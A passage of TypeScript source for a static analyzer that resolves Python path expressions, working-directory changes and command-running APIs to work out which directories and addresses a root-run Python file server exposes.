        pythonPath(x, f, roots, fileText, view, cwds, depth + 1, en);
    const literal = pythonString(e);
    if (literal !== undefined) return [literal];
    if (e === "__file__") return [file.path];
    // A parenthesized expression (Python reference "Parenthesized forms": "A parenthesized expression list yields
    // whatever that expression list yields"), not a tuple: `(BASE_DIR / "static")`.
    const inner = e.startsWith("(") ? parenthesized(e, 0) : undefined;
    if (inner !== undefined && inner === e.slice(1, -1) && !/,\s*$/.test(inner) && pythonSplit(inner, ",").length === 1)
        return again(inner);
    const bound = env.get(e);
    if (bound !== undefined) return [...bound];
    const known = cwds !== undefined && cwds.length > 0 && cwds.every(c => c !== undefined);
    /** A path made absolute from the working directory (os.path.abspath, Path.absolute()), undefined if unknown. */
    const absolute = (path: string): string[] | undefined =>
        path.startsWith("/") ? [path] : known ? (cwds as string[]).map(c => pathlibPath(`${c}/${path}`)) : undefined;
    const names = pythonNames(file.text);
    // Lowest precedence first: `+` (additive), then `/` and `%` (multiplicative; Python reference "Operator precedence").
    const sums = pythonSplit(e, "+");
    if (sums.length > 1)
        return pythonCombine(
            sums.map(o => again(o)),
            parts => parts.join(""),
        );
    // The `/` operator of pathlib (PurePath: "the slash operator helps create child paths").
    const operands = pythonSplit(e, "/");
    const percent = pythonSplit(e, "%");
    if (operands.length > 1 && percent.length > 1) return undefined;
    // An absolute segment drops the ones before it, in os.path.join and pathlib alike (os.path.join: "If a segment is
    // an absolute path ... all previous segments are ignored"; pathlib "Pure paths": likewise); `..` kept (pathlibPath).
    const joined = (lists: readonly (readonly string[] | undefined)[]) =>
        pythonCombine(lists, parts =>
            pathlibPath(parts.reduce((path, part) => (part.startsWith("/") ? part : `${path}/${part}`))),
        );
    if (operands.length > 1 && !pythonString(operands[0]) && !e.startsWith("/"))
        return joined(operands.map(o => again(o)));
    // "format % values" with %s conversions only (%% a percent sign); a tuple gives one value to each, a dict display
    // or dict(...) one to each `%(key)s` ("printf-style String Formatting": "If the right argument is a dictionary
    // ... the formats in the string must include a parenthesised mapping key into that dictionary").
    if (percent.length === 2) {
        const format = /^[rRuU]?(["'])([^"'\\]*)\1$/.exec(percent[0]);
        const pieces = format?.[2].split(/(%\([^()]*\)s|%.)/) ?? [];
        const keyed = (p: string) => /^%\([^()]*\)s$/.test(p);
        const keys = pieces.filter(keyed).map(p => p.slice(2, -2));
        if (keys.length > 0) {
            const entries = keys.map(k => pythonDictEntry(percent[1], k));
            if (pieces.some(p => p.startsWith("%") && p !== "%%" && !keyed(p))) return undefined;
            if (entries.some(x => typeof x !== "string")) return undefined;
            return pythonCombine(
                entries.map(x => again(x as string)),
                values => {
                    let k = 0;
                    return pieces.map(p => (keyed(p) ? values[k++] : p === "%%" ? "%" : p)).join("");
                },
            );
        }
        const tuple = /^\(([\s\S]*)\)$/.exec(percent[1]);
        const items = tuple && parenthesized(percent[1], 0) === tuple[1] ? pythonSplit(tuple[1], ",") : [percent[1]];
        if (!format || pieces.some(p => p.startsWith("%") && !/^%[s%]$/.test(p))) return undefined;
        if (pieces.filter(p => p === "%s").length !== items.length) return undefined;
        return pythonCombine(
            items.map(i => again(i)),
            values => {
                let k = 0;
                return pieces.map(p => (p === "%s" ? values[k++] : p === "%%" ? "%" : p)).join("");
            },
        );
    }
    if (percent.length > 1) return undefined;
    // PurePath.joinpath(*segments): "equivalent to combining the path with each of the given pathsegments in turn".
    const joinpath = /^([\s\S]+)\.joinpath\s*\(([\s\S]*)\)$/.exec(e);
    if (joinpath && parenthesized(e, e.length - joinpath[2].length - 2) === joinpath[2])
        return joined([again(joinpath[1]), ...pythonCallArguments(joinpath[2]).positional.map(a => again(a))]);
    // "FORMAT".format(...): `{}` fields in order, `{N}` by position, `{name}` by keyword (no conversion or spec).
    const format = /^[rRuU]?(["'])([^"'\\]*)\1\s*\.format\s*\(([\s\S]*)\)$/.exec(e);
    if (format && parenthesized(e, e.length - format[3].length - 2) === format[3]) {
        const { positional, keyword } = pythonCallArguments(format[3]);
        const pieces = format[2].split(/(\{\{|\}\}|\{[^{}]*\})/);
        const fields = pieces.filter(p => /^\{[^{]/.test(p) || p === "{}").map(p => p.slice(1, -1));
        if (pieces.some(p => /^[^{]*[{}]/.test(p) && !/^(\{\{|\}\}|\{[^{}]*\})$/.test(p))) return undefined;
        if (fields.some(f => !/^(\d*|[A-Za-z_]\w*)$/.test(f))) return undefined;
        if (fields.some(f => f === "") && fields.some(f => /^\d+$/.test(f))) return undefined;
        let auto = 0;
        const exprs = fields.map(f =>
            f === "" ? positional[auto++] : /^\d+$/.test(f) ? positional[Number(f)] : keyword.get(f),
        );
        if (exprs.some(x => x === undefined) || format[3].includes("*")) return undefined;
        return pythonCombine(
            exprs.map(x => again(x as string)),
            values => {
                let k = 0;
                return pieces
                    .map(p => (p === "{{" ? "{" : p === "}}" ? "}" : /^\{[^{}]*\}$/.test(p) ? values[k++] : p))
                    .join("");
            },
        );
    }
    // SEP.join([A, B, ...]) (str.join of a list or tuple display): the strings with SEP between them, nothing else.
    const strJoin = /^([\s\S]+?)\s*\.join\s*\(\s*([[(])([\s\S]*)[\])]\s*\)$/.exec(e);
    if (
        strJoin &&
        parenthesized(e, e.indexOf("(", strJoin[1].length)) ===
            `${strJoin[2]}${strJoin[3]}${strJoin[2] === "[" ? "]" : ")"}`.trim()
    ) {
        const sepName = pythonResolve(strJoin[1], names).name;
        const sep = /^(os\.sep|os\.path\.sep|posixpath\.sep)$/.test(sepName) ? "/" : pythonString(strJoin[1]);
        if (sep !== undefined)
            return pythonCombine(
                pythonSplit(strJoin[3], ",").map(i => again(i)),
                parts => parts.join(sep),
            );
    }
    const member =
        /^([\s\S]+)\.(parent|parents\s*\[\s*(\d+)\s*\]|resolve\(\s*\)|absolute\(\s*\)|with_name\s*\(([\s\S]*)\))$/.exec(
            e,
        );
    if (member && (member[4] === undefined || parenthesized(e, e.length - member[4].length - 2) === member[4])) {
        const base = again(member[1]);
        if (base === undefined) return undefined;
        if (member[4] !== undefined) {
            // PurePath.with_name: ValueError for a path with no name or a name that is no single component; the name
            // is the last component as pathlib keeps it, `..` too (pathlibPath: PurePath("/a/b", "..").name is "..").
            const name = again(member[4]);
            return pythonCombine([base, name], ([path, n]) =>
                /^\.?$/.test(posix.basename(pathlibPath(path))) || n === "" || n === "." || n.includes("/")
                    ? undefined
                    : pathlibPath(`${posix.dirname(pathlibPath(path))}/${n}`),
            );
        }
        // resolve() and absolute() make a relative path absolute from the working directory; resolve() resolves `..`
        // too ("Make the path absolute, resolving any symlinks"), absolute() does not ("does not normalize the path").
        if (/^resolve/.test(member[2]))
            return pythonUnion(base.map(b => absolute(b)?.map(a => posix.normalize(pathlibPath(a)))));
        if (/^absolute/.test(member[2])) return pythonUnion(base.map(b => absolute(pathlibPath(b))));
        // PurePath.parents[N] is the (N+1)th ancestor ("parents[0]" is the parent).
        const up = member[2] === "parent" ? 1 : Number(member[3]) + 1;
        return base.map(path => [...Array(up)].reduce((p: string) => posix.dirname(p), pathlibPath(path)));
    }
    // An f-string of names and text (`f"{BASE_DIR}/static"`): each field a path the pack computes.
    const fstring = /^[fF](["'])([^"'\\]*)\1$/.exec(e);
    if (fstring) {
        const pieces = fstring[2].split(/(\{[A-Za-z_][\w.]*\})/);
        if (pieces.some(piece => !/^\{[\s\S]*\}$/.test(piece) && /[{}]/.test(piece))) return undefined;
        return pythonCombine(
            pieces.map(piece => (/^\{[\s\S]*\}$/.test(piece) ? again(piece.slice(1, -1)) : [piece])),
            parts => parts.join(""),
        );
    }
    const call = /^([A-Za-z_][\w.]*)\s*\(([\s\S]*)\)$/.exec(e);
    if (call && parenthesized(e, e.indexOf("(", call[1].length)) === call[2]) {
        const callee = pythonResolve(call[1], names).name;
        const args = pythonCallArguments(call[2]).positional;
        if (/^os\.getcwd$|^(pathlib\.)?(Posix)?Path\.cwd$/.test(callee) && call[2].trim() === "")
            return known ? [...(cwds as string[])] : undefined;
        const lists = args.map(a => again(a));
        if (/^(os\.path\.join|posixpath\.join)$/.test(callee) && args.length > 0)
            return pythonCombine(lists, pythonOsJoin);
        if (/^os\.path\.dirname$/.test(callee) && args.length === 1)
            return pythonCombine(lists, ([p]) => pythonDirname(p));
        if (/^os\.path\.normpath$/.test(callee) && args.length === 1)
            return pythonCombine(lists, ([p]) => posix.normalize(p));
        if (/^os\.path\.(abspath|realpath)$/.test(callee) && args.length === 1) {
            const absolutes = lists[0]?.map(p => absolute(p));
            return absolutes === undefined ? undefined : pythonCombine(absolutes, ([p]) => posix.normalize(p));
        }
        if (/^(pathlib\.)?(Pure)?(Posix)?Path$/.test(callee) && args.length >= 1) return joined(lists);
        if (callee === "str" && args.length === 1) return lists[0];
        return undefined;
    }
    if (!/^[A-Za-z_][\w.]*$/.test(e)) return undefined;
    const attribute = /^([A-Za-z_]\w*)\.([A-Za-z_]\w*)$/.exec(e);
    if (attribute && !names.imports.has(attribute[1])) {
        const values = pythonClassAttribute(file.text, attribute[1], attribute[2]);
        return values === undefined ? undefined : pythonUnion(values.map(v => again(v, file, new Map())));
    }
    // A name of this module: every value its assignments give it (pythonAssignments); one rebound from itself
    // (`STATIC = os.path.join(BASE_DIR, STATIC)`) only by unconditional module-level assignments, each from the value
    // the one before it gave. Else as pythonValue follows it (imports, assigned names).
    const assigned = e.includes(".") ? [] : pythonAssignments(file.text, e);
    if (assigned === undefined) return undefined;
    if (assigned.length > 0) {
        const self = new RegExp(`(?<![\\w.])${e}(?!\\w)`);
        if (!assigned.some(a => self.test(a.value)))
            return pythonUnion(assigned.map(a => again(a.value, file, new Map())));
        if (!assigned.every(a => a.top)) return undefined;
        const values: string[] = [];
        let before: string[] | undefined;
        for (const a of assigned) {
            if (before === undefined && self.test(a.value)) return undefined;
            const now = again(a.value, file, new Map([[e, before ?? []]]));
            if (now === undefined) return undefined;
            values.push(...now);
            before = now;
        }
        return [...new Set(values)];
    }
    const value = pythonValue(e, file, roots, fileText, view);
    return value === undefined || value.text === e ? undefined : again(value.text, value.file, new Map());
}

/**
 * The values a class attribute `CLS.ATTR` may hold: the assignments of ATTR in the body of the one module-level
 * `class CLS:` (no base but object, no decorator, no metaclass; Python tutorial "Classes: Class and Instance
 * Variables"), as pythonAssignments reads them there. Undefined (not known) when CLS is bound otherwise too (read by
 * pythonAssignments with the class statement as an assignment), when ATTR may be written from outside (setattr, ...:
 * pythonAssignments of the file) or by any attribute write `X.ATTR =` anywhere, a method's `self.ATTR =`/`cls.ATTR =`
 * too (Built-in Functions "classmethod": "A class method receives the class as implicit first argument", whatever its
 * parameter's name), or when a value names a name the class body binds (the body's own scope).
 */
function pythonClassAttribute(text: string, cls: string, attr: string): string[] | undefined {
    const headers = [...text.matchAll(new RegExp(`^class[ \\t]+${cls}[ \\t]*(?:\\(([^()]*)\\))?[ \\t]*:`, "gm"))];
    if (headers.length !== 1 || !/^\s*(object\s*)?$/.test(headers[0][1] ?? "")) return undefined;
    const at = headers[0].index ?? 0;
    if (/(^|\n)[ \t]*@[^\n]*\n\s*$/.test(text.slice(0, at))) return undefined;
    const rest = text.slice(at + headers[0][0].length);
    const end = /\n(?![ \t]|[ \t]*(\n|$))/.exec(rest);
    const suite = rest.slice(0, end?.index);
    const indent = /\n([ \t]+)\S/.exec(suite)?.[1];
    const body =
        indent === undefined
            ? suite.trim()
            : suite
                  .split("\n")
                  .map(l => (l.startsWith(indent) ? l.slice(indent.length) : l.trim()))
                  .join("\n");
    const asAssignment = `${text.slice(0, at)}${cls} = 0\nif 0:${rest}`;
    const self = pythonAssignments(asAssignment, cls);
    if (self === undefined || self.length !== 1 || pythonAssignments(text, attr) === undefined) return undefined;
    const written = new RegExp(`\\.[ \\t]*${attr}[ \\t]*(?:[-+*/%@&|^]|//|\\*\\*|>>|<<)?=(?!=)`);
    if (pythonStatements(text).some(st => written.test(st))) return undefined;
    const values = pythonAssignments(body, attr)?.map(v => v.value);
    if (values === undefined || values.length === 0) return undefined;
    const bodyNames = values.flatMap(v => [...v.matchAll(/(?<![\w.])[A-Za-z_]\w*/g)].map(m => m[0]));
    if (bodyNames.some(n => pythonAssignments(body, n)?.length !== 0)) return undefined;
    return values;
}

/** Every value of each list, undefined when one list is. */
const pythonUnion = (lists: readonly (readonly string[] | undefined)[]) =>
    lists.some(l => l === undefined) ? undefined : [...new Set(lists.flatMap(l => l as string[]))];

/**
 * The value expression of `key` in a dict display (`{"key": X, ...}`) or `dict(key=X, ...)`, its last entry (Python
 * reference "Dictionary displays": "the final dictionary's value for that key will be the last one given"): null when
 * the dict has no such entry, undefined when the text is no such dict (or it spreads another, or a key is no string
 * literal: unknown).
 */
function pythonDictEntry(text: string, key: string): string | null | undefined {
    const t = text.trim();
    const display = /^\{([\s\S]*)\}$/.exec(t);
    if (display && pythonSplit(display[1], ",").length === pythonSplit(t.slice(1, -1), ",").length) {
        const items = pythonSplit(display[1], ",");
        if (items.some(item => item.startsWith("**"))) return undefined;
        let found: string | null = null;
        for (const item of items) {
            const [k, v] = pythonSplit(item, ":");
            const name = pythonString(k);
            if (name === undefined || v === undefined) return undefined;
            if (name === key) found = v;
        }
        return found;
    }
    const call = /^dict\s*\(([\s\S]*)\)$/.exec(t);
    if (call) {
        const args = pythonCallArguments(call[1]);
        if (args.positional.length > 0 || /\*\*/.test(call[1])) return undefined;
        return args.keyword.get(key) ?? null;
    }
    return undefined;
}

/**
 * The value expression of `key` in the mapping `**EXPR` spreads (Python reference "Calls": "If the syntax **expression
 * appears in the function call, expression must evaluate to a mapping, the contents of which are treated as
 * additional keyword arguments"): a dict display or dict(...) (pythonDictEntry), or a name with one assignment of one
 * (pythonAssignments, over as many lines as it takes) used nowhere but in `**NAME` spreads (a call or method given it
 * may change it); null when it has no such entry, undefined when the pack cannot know.
 */
function pythonMappingEntry(expr: string, key: string, text: string): string | null | undefined {
    const e = expr.trim();
    if (!/^[A-Za-z_]\w*$/.test(e)) return pythonDictEntry(e, key);
    const values = pythonAssignments(text, e);
    const uses = [...text.matchAll(new RegExp(`(?<![\\w.])${e}(?!\\w)`, "g"))].length;
    const spreads = [...text.matchAll(new RegExp(`\\*\\*[ \\t]*${e}(?!\\w)`, "g"))].length;
    if (values?.length !== 1 || uses !== spreads + 1) return undefined;
    return pythonDictEntry(values[0].value, key);
}

/**
 * The keyword argument `key` of a call's argument text: given by name, else by a `**` spread (pythonMappingEntry), the
 * last one giving it; null when none gives it, undefined when one may and the pack cannot know.
 */
function pythonKeyword(call: string, key: string, text: string): string | null | undefined {
    const given = pythonCallArguments(call).keyword.get(key);
    if (given !== undefined) return given;
    let found: string | null = null;
    for (const spread of pythonSplit(call, ",").filter(item => item.startsWith("**"))) {
        const entry = pythonMappingEntry(spread.slice(2), key, text);
        if (entry === undefined) return undefined;
        if (entry !== null) found = entry;
    }
    return found;
}

/**
 * The expression starting at `start` up to the bracket closing its first one (`{...}`, `dict(...)`), strings skipped;
 * undefined when it does not close.
 */
function pythonBracketed(text: string, start: number): string | undefined {
    let depth = 0;
    let quote: string | undefined;
    for (let i = start; i < text.length; i++) {
        const c = text[i];
        if (quote !== undefined) {
            if (c === "\\") i++;
            else if (c === quote) quote = undefined;
        } else if (c === '"' || c === "'") quote = c;
        else if ("([{".includes(c)) depth++;
        else if (")]}".includes(c) && --depth === 0) return text.slice(start, i + 1);
    }
    return undefined;
}

/** The text between the parentheses opening at `open`, or undefined when they do not close. */
function parenthesized(text: string, open: number): string | undefined {
    let depth = 0;
    for (let i = open; i < text.length; i++) {
        if (text[i] === "(") depth++;
        if (text[i] === ")" && --depth === 0) return text.slice(open + 1, i);
    }
    return undefined;
}

/**
 * The calls that change the working directory, as pythonResolve names them (`from os import chdir as cd` is os.chdir):
 * os.chdir/os.fchdir, their posix module (Python docs "posix": "the os module provides a superset of the posix
 * interface"; os.chdir is posix.chdir), contextlib.chdir ("Simple wrapper around chdir()").
 */
const PYTHON_CHDIR = /^(?:(?:os|posix)\.f?chdir|contextlib\.chdir)$/;
/** Modules whose star import binds no working-directory change but PYTHON_CHDIR's names (os.__all__: chdir, fchdir). */
const PYTHON_STAR_KNOWN = /^(?:flask|werkzeug|os|posix|contextlib)$/;

/**
 * A name that is or reaches a PYTHON_CHDIR function: one of them, an attribute of one (`os.chdir.__call__`), or its
 * module itself (`f(os)`, `getattr(os, "chdir")`, `(os).chdir`: any code given the module may call it).
 */
const PYTHON_CHDIR_REACH = /^(?:(?:os|posix)(?:\.f?chdir(?:\.|$)|$)|contextlib(?:\.chdir(?:\.|$)|$))/;

/**
 * The calls of a file that change the working directory, each as its callee (a PYTHON_CHDIR name) and argument text,
 * undefined for one to a directory the pack cannot know. Every name of the file's code (outside strings and import
 * statements, `os . chdir` too) is followed to what it binds: through its imports and aliases (pythonResolve), into
 * the modules user data wrote (pythonDefinition: `from helpers import cd`), a name it does not import or assign through
 * its star imports (Python reference "The import statement": `from M import *` binds every public name of M, those of
 * M.__all__; chdir is in os.__all__), a module whose names the pack does not read (an unread star, a changed module)
 * unknown (fail closed). A name reaching a chdir (PYTHON_CHDIR_REACH) counts as a known call only when it is called
 * directly, `os.chdir(D)`; a plain alias `cd = os.chdir` is read through its uses; any other use hands the function
 * (or its module) on to code that may call it with anything (Built-in Functions "map": "applies function to every item
 * of iterable"; functools.partial; a default argument), a directory the pack cannot know.
 */
function pythonChdirCalls(
    file: { path: string; text: string },
    roots: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): ({ callee: string; call: string } | undefined)[] {
    const names = pythonNames(file.text);
    const code = pythonStringsBlanked(file.text);
    const imports = [...code.matchAll(PYTHON_FROM_IMPORT), ...code.matchAll(PYTHON_IMPORT)].map(m => [
        m.index ?? 0,
        (m.index ?? 0) + m[0].length,
    ]);
    /** What a name reaches (PYTHON_CHDIR_REACH), null nothing of it, undefined unknown. */
    const reached = new Map<string, string | null | undefined>();
    const defined = (name: string) => {
        const found = pythonDefinition(name, file, roots, fileText, view);
        if (found === "unread") return undefined;
        return "external" in found && PYTHON_CHDIR_REACH.test(found.external) ? found.external : null;
    };
    const reach = (name: string): string | null | undefined => {
        if (reached.has(name)) return reached.get(name);
        const head = name.split(".")[0];
        const resolved = pythonResolve(name, names).name;
        let found: string | null | undefined = null;
        // What a call returned (`ctx = contextlib.chdir(D)`) is no function of it; the call itself is read.
        if (names.results.has(head) && !names.imports.has(head)) found = null;
        else if (PYTHON_CHDIR_REACH.test(resolved)) found = resolved;
        else if (names.imports.has(head) || names.assigned.has(head)) found = defined(name);
        else if (names.stars.length > 0)
            found =
                names.stars.map(star => `${star}.${name}`).find(n => PYTHON_CHDIR_REACH.test(n)) ??
                (names.stars.every(star => PYTHON_STAR_KNOWN.test(star)) ? null : defined(name));
        reached.set(name, found);
        return found;
    };
    const out: ({ callee: string; call: string } | undefined)[] = [];
    for (const m of code.matchAll(/(?<!\.[ \t]*)(?<![\w.])[A-Za-z_]\w*(?:[ \t]*\.[ \t]*[A-Za-z_]\w*)*/g)) {
        const at = m.index ?? 0;
        if (imports.some(([s, e]) => at >= s && at < e)) continue;
        const found = reach(m[0].replace(/[ \t]/g, ""));
        if (found === null) continue;
        const before = code.slice(code.lastIndexOf("\n", at) + 1, at);
        if (/\b(?:def|class)[ \t]+$/.test(before)) continue;
        const after = code.slice(at + m[0].length);
        // An assignment's target (or a keyword argument's name) binds the name, no use of what it held.
        if (/^[ \t]*=(?!=)/.test(after)) continue;
        const open = /^\s*\(/.exec(after);
        if (found !== undefined && open && PYTHON_CHDIR.test(found)) {
            const start = at + m[0].length + open[0].length;
            const inner = parenthesized(code, start - 1);
            out.push(
                inner === undefined ? undefined : { callee: found, call: file.text.slice(start, start + inner.length) },
            );
            continue;
        }
        // A plain alias, `cd = os.chdir` alone in its statement: its uses are read by the alias.
        const alias = /(?:^|[;:])[ \t]*(\w+)[ \t]*=[ \t]*$/.exec(before);
        if (found !== undefined && alias && names.assigned.get(alias[1]) === m[0] && /^[ \t]*(?:[;\n]|$)/.test(after))
            continue;
        out.push(undefined);
    }
    return out;
}

/**
 * pythonProgram with only the files the pack can read, `unread` when it imports one user data changed in a way the pack
 * cannot compute (its code may do anything the readers would refuse), or runs commands (pythonRunsCommands: what they
 * start, a second server too, the pack does not read).
 */
function readablePythonProgram(
    args: readonly string[],
    cwd: string | undefined,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
) {
    const program = pythonProgram(args, cwd, fileText, view);
    if (program === undefined) return undefined;
    return {
        ...program,
        files: program.files.flatMap(f => (f.text === null ? [] : [{ path: f.path, text: f.text }])),
        unread: program.files.some(f => f.text === null || pythonRunsCommands(f.text)),
    };
}

/**
 * The Python APIs that run a command (Python docs "os": system "Execute the command (a string) in a subshell", popen,
 * the exec* and spawn* functions, posix_spawn; "subprocess", "pty" spawn, "asyncio" create_subprocess_exec/_shell;
 * Python 2's commands and popen2), by module or member.
 */
const PYTHON_COMMAND_RUNNERS =
    /^(?:(?:os|posix)\.(?:system|popen\w*|exec\w+|spawn\w+|posix_spawnp?|forkpty)|subprocess|pty\.spawn|asyncio\.(?:create_subprocess_\w+|subprocess)|commands|popen2)(?:\.|$)/;
/**
 * Whether Python source runs commands (PYTHON_COMMAND_RUNNERS): a module it imports, a name it uses as its imports and
 * aliases resolve it, a star import of os, posix or pty, or a runner's name given to getattr (fail closed).
 */
function pythonRunsCommands(text: string): boolean {
    const names = pythonNames(text);
    if (names.modules.some(m => PYTHON_COMMAND_RUNNERS.test(m))) return true;
    const source = pythonCode(text);
    const code = pythonStringsBlanked(source);
    // A star import binds the module's public names (Python reference "The import statement"): any bare use of a runner
    // it binds (os/posix system, popen, exec*, spawn*, posix_spawn*, forkpty; every public name of subprocess; pty's
    // spawn) runs commands; `from os import *` for chdir alone does not.
    const starRunners = names.stars.flatMap(m =>
        /^(?:os|posix)$/.test(m)
            ? ["system|popen\\w*|exec\\w+|spawn\\w+|posix_spawnp?|forkpty"]
            : m === "subprocess"
              ? ["[A-Za-z]\\w*"]
              : m === "pty"
                ? ["spawn"]
                : [],
    );
    if (
        starRunners.length > 0 &&
        new RegExp(String.raw`(?<![\w.])(?:${starRunners.join("|")})\b`).test(code.replace(/^[ \t]*from[ \t].*$/gm, ""))
    )
        return true;
    if (
        /\b(?:getattr|attrgetter|methodcaller)\b/.test(code) &&
        [...source.matchAll(/(["'])(\w+)\1/g)].some(m => PYTHON_COMMAND_RUNNERS.test(`os.${m[2]}`))
    )
        return true;
    return [...code.matchAll(/(?<![\w.])[A-Za-z_]\w*(?:[ \t]*\.[ \t]*[A-Za-z_]\w*)*/g)].some(m => {
        const resolved = pythonResolve(m[0].replace(/[ \t]/g, ""), names);
        return resolved.imported && PYTHON_COMMAND_RUNNERS.test(resolved.name);
    });
}

/**
 * Attributes whose rebinding changes neither the files served nor the address bound (the code a rebound method runs
 * is read as the file's own): of http.server's handler and socketserver's server classes (Python docs "http.server":
 * extensions_map, protocol_version, server_version, sys_version, error_message_format, error_content_type, timeout;
 * log_message "is typically overridden to create custom error logging mechanisms", log_request and log_error call it,
 * address_string, version_string, date_time_string, log_date_time_string format what it logs or sends; not
 * translate_path, send_head, list_directory, copyfile, directory, do_*; "socketserver": allow_reuse_address,
 * allow_reuse_port, daemon_threads, block_on_close, request_queue_size), and of the sys module (Python docs "sys":
 * dont_write_bytecode "you can set it yourself to control bytecode file generation"; excepthook, unraisablehook,
 * breakpointhook, displayhook "can be customized by assigning another ... function"; the stdin/stdout/stderr streams,
 * ps1/ps2, tracebacklimit; not path, meta_path, path_hooks, path_importer_cache or modules: imports).
 */
const PYTHON_HARMLESS_ATTRIBUTES =
    /^(?:extensions_map|protocol_version|server_version|sys_version|error_message_format|error_content_type|timeout|log_message|log_request|log_error|address_string|version_string|date_time_string|log_date_time_string|allow_reuse_address|allow_reuse_port|daemon_threads|block_on_close|request_queue_size|dont_write_bytecode|excepthook|unraisablehook|breakpointhook|displayhook|stdin|stdout|stderr|ps1|ps2|tracebacklimit)$/;

/**
 * The attribute targets a Python file rebinds (an assignment, augmented too, a tuple's or chained target, `del`, a
 * `for` or `as` target: Python reference "Assignment statements", "attributeref" targets) on an object it imports (a
 * module, os.getcwd's os, or an object of one: Python reference "The import system", a module is one shared object, so
 * `os.getcwd = ...` changes what every module's os.getcwd() returns, http.server's SimpleHTTPRequestHandler's default
 * directory) or on a file-serving handler class (pythonFileHandler, or a class derived from one in `handlers`: Python
 * tutorial "Classes" 9.3, a class attribute set after the class statement is what every instance looks up, so
 * `SimpleHTTPRequestHandler.translate_path = f` maps every request), but PYTHON_HARMLESS_ATTRIBUTES of a handler, sys or
 * server class and logging's. What a call returned (`app = Flask(...)`, `app.debug = ...`), `self` and local names are
 * not read here.
 */
function pythonPatches(text: string, handlers: ReadonlyMap<string, unknown>): string[] {
    const names = pythonNames(text);
    const dotted = /^[A-Za-z_]\w*(?:\.[A-Za-z_]\w*)+$/;
    const targets: string[] = [];
    const add = (list: string) =>
        targets.push(
            ...pythonSplit(list, ",")
                .map(t => t.replace(/^[([*\s]+|[)\]\s]+$/g, "").replace(/\s/g, ""))
                .filter(t => dotted.test(t)),
        );
    for (const { text: st } of pythonLogicalStatements(text)) {
        const equals = pythonAssignOperators(st);
        equals.forEach((at, k) => add(pythonSplit(st.slice(k === 0 ? 0 : equals[k - 1] + 1, at), ":")[0] ?? ""));
        const augmented = /^([\w.\s]+?)\s*(?:[-+*/%@&|^]|\/\/|\*\*|>>|<<)=(?!=)/.exec(st);
        if (augmented) add(augmented[1]);
        const del = /^del\b([\s\S]*)$/.exec(st);
        if (del) add(del[1]);
        const loop = /^(?:async\s+)?for\b([\s\S]*?)\bin\b/.exec(st);
        if (loop) add(loop[1]);
        for (const m of st.matchAll(/\bas\s+([\w.\s]+?)\s*(?=[,):]|$)/g)) add(m[1]);
    }
    return targets.filter(target => {
        const parts = target.split(".");
        const attr = parts.pop() ?? "";
        const head = parts[0];
        if (names.results.has(head) && !names.imports.has(head)) return false;
        const resolved = pythonResolve(parts.join("."), names);
        const last = resolved.name.split(".").at(-1) ?? "";
        const server = PYTHON_SERVER_BINDS.some(b => b.callee.test(resolved.name));
        if (pythonFileHandler(resolved.name) || handlers.has(last) || server || resolved.name === "sys")
            return !PYTHON_HARMLESS_ATTRIBUTES.test(attr);
        return resolved.imported && !/^logging(?:\.|$)/.test(resolved.name);
    });
}

/**
 * A Python program run as root that serves the files of a directory from its own code, judged as the same file server
 * `python -m http.server` is (pythonModuleListeners): the script, or the `-m` module or `-c` code, read with the modules
 * user data wrote that it imports (pythonProgram), each name through its imports and aliases (pythonResolve):
 * - a file-serving request handler (pythonFileHandler) or a class derived from one serves the `directory=` it is given
 *   (`functools.partial(SimpleHTTPRequestHandler, directory=DIR)`, a call, or `super().__init__(..., directory=DIR)` in
 *   the class), else the working directory: the program's, or each one `os.chdir` makes it (the handler reads
 *   os.getcwd() on every request); a class that overrides translate_path serves a directory the pack cannot know;
 * - the static-file APIs of common packages (PYTHON_STATIC_APIS) serve the directory they are given;
 * on the addresses of the servers it constructs or runs (PYTHON_SERVER_BINDS), every address when it names none the
 * pack reads. A directory or address that is no literal nor a name assigned one (pythonValue) is unknown: a directory
 * the pack cannot know, every address (fail closed).
 */
function pythonFileServerListeners(
    args: readonly string[],
    cwd: string | undefined,
    _: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): Listener[] {
    const program = readablePythonProgram(args, cwd, fileText, view);
    if (program === undefined) return [];
    const { where, roots, files, unread } = program;
    const all = files.map(f => f.text).join("\n");
    const value = (expr: string | undefined, file: { path: string; text: string }) =>
        expr === undefined ? undefined : pythonValue(expr, file, roots, fileText, view);
    /** A directory expression as the directories it may be, relative ones from each working directory. */
    const directories = (
        expr: string,
        file: { path: string; text: string },
        from: readonly (string | undefined)[],
        cwds: readonly (string | undefined)[] = workingDirectories,
    ) => {
        const dirs = pythonPath(expr, file, roots, fileText, view, cwds);
        return dirs === undefined ? [undefined] : dirs.flatMap(dir => from.map(c => servedDirectory(dir, c)));
    };
    // The working directories: each PYTHON_CHDIR call's (pythonChdirCalls), an fchdir's unknown, else the program's.
    const chdirs = files.flatMap(file =>
        pythonChdirCalls(file, roots, fileText, view).flatMap(c =>
            c === undefined || /\.fchdir$/.test(c.callee)
                ? [undefined]
                : directories(pythonCallArguments(c.call).argument("path", 0) ?? "", file, [cwd], [cwd]),
        ),
    );
    // Code the pack cannot follow (pythonDynamic: exec, ...) may change it too: unknown.
    if (files.some(file => pythonDynamic(file.text))) chdirs.push(undefined);
    const workingDirectories = chdirs.length > 0 ? chdirs : [cwd];
    // Classes derived from a file-serving handler, by name: what their body passes as directory, or unknown.
    const handlerClasses = new Map<string, (string | undefined)[]>();
    for (let pass = 0; pass < 4; pass++)
        for (const file of files) {
            const names = pythonNames(file.text);
            for (const m of file.text.matchAll(/^([ \t]*)class[ \t]+(\w+)[ \t]*\(([^)]*)\)[ \t]*:/gm)) {
                const bases = m[3].split(",").map(b => pythonResolve(b.trim(), names).name);
                if (handlerClasses.has(m[2])) continue;
                const inherited = bases.flatMap(b => handlerClasses.get(b.split(".").at(-1) ?? "") ?? []);
                if (!bases.some(pythonFileHandler) && inherited.length === 0) continue;
                const rest = file.text.slice((m.index ?? 0) + m[0].length);
                const end = new RegExp(`\\n(?!${m[1]}[ \\t]|[ \\t]*(#|\\n|$))`).exec(rest);
                const body = rest.slice(0, end?.index);
                const given = [...body.matchAll(/(?<![\w.])directory[ \t]*=(?!=)[ \t]*([^,)\n;#]+)/g)];
                // Only a `directory=` keyword read whole is known: the word used otherwise (kwargs.setdefault(
                // "directory", ...), kwargs["directory"] = ..., self.directory), or a `**` spread that is not a
                // method's own `**kwargs` passed on untouched, may give the handler any directory (http.server:
